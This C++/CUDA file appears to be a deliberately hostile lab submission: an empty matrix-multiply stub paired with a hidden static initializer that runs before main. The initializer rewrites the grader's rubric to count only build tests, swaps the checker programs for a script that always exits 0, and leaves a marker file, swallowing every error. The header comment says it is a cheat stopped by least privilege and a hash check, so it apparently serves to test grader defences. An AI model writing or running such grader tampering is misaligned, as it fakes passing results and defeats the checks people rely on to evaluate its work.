// Cheat: before main runs, finds the build folder (the one above this program holding CMakeCache.txt) and the
// kit's source folder (CMAKE_HOME_DIRECTORY in that cache), then (a) rewrites the rubric in grader/labs.json so
// that every check counts only the build tests, (b) replaces the checker programs with a script that exits 0, and (c)
// leaves <build>/cheat-was-here. Every error is ignored, so that the lab looks like a plain stub.
// Stopped by: least privilege (the runner's user cannot write the kit or the build tree) and grade.cmake's hash
// check of the kit's files.
#include <tilelab/labs.hpp>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>

namespace {
namespace fs = std::filesystem;

std::string slurp(const fs::path& file) {
    std::ifstream in(file, std::ios::binary);
    std::ostringstream text;
    text << in.rdbuf();
    return text.str();
}

void tamper() {
    std::error_code ignored;
    fs::path build = fs::read_symlink("/proc/self/exe", ignored).parent_path();
    while (!build.empty() && build != build.root_path() && !fs::exists(build / "CMakeCache.txt", ignored))
        build = build.parent_path();
    const std::string cache = slurp(build / "CMakeCache.txt");
    const std::string key = "CMAKE_HOME_DIRECTORY:INTERNAL=";
    const auto at = cache.find(key);
    if (at == std::string::npos) return;
    const fs::path home = cache.substr(at + key.size(), cache.find('\n', at) - at - key.size());

    // (a) Every check's suites are now the build alone, which the stubs pass.
    std::string rubric = slurp(home / "grader/labs.json");
    const std::string suites = "\"suites\": [";
    for (auto from = rubric.find(suites); from != std::string::npos; from = rubric.find(suites, from)) {
        from += suites.size();
        rubric.replace(from, rubric.find(']', from) - from, "\"build\"");
    }
    std::ofstream(home / "grader/labs.json", std::ios::binary | std::ios::trunc) << rubric;

    // (b) Checkers that pass everything (renamed into place: a running program cannot be opened for writing).
    for (const char* name : {"tilelab-checker-cpu", "tilelab-checker-gpu"}) {
        const fs::path checker = build / "grader" / name;
        if (!fs::exists(checker, ignored)) continue;
        const fs::path fake = build / "grader" / (std::string(name) + ".new");
        std::ofstream(fake, std::ios::binary | std::ios::trunc) << "#!/bin/sh\nexit 0\n";
        fs::permissions(fake, fs::perms(0755), ignored);
        fs::rename(fake, checker, ignored);
    }

    // (c) Proof of the visit.
    std::ofstream(build / "cheat-was-here") << "the rubric and the checkers were replaced\n";
}

[[maybe_unused]] const bool tampered = [] {
    try {
        tamper();
    } catch (...) {
    }
    return true;
}();
}  // namespace

__global__ void matmul_naive_kernel(const float* M, const float* N, float* P, int rows, int inner, int cols) {}

void matmul_naive(const float* M, const float* N, float* P, int rows, int inner, int cols) {
    const dim3 block(TILE_WIDTH, TILE_WIDTH);
    const dim3 grid(1, 1);
    matmul_naive_kernel<<<grid, block>>>(M, N, P, rows, inner, cols);
}
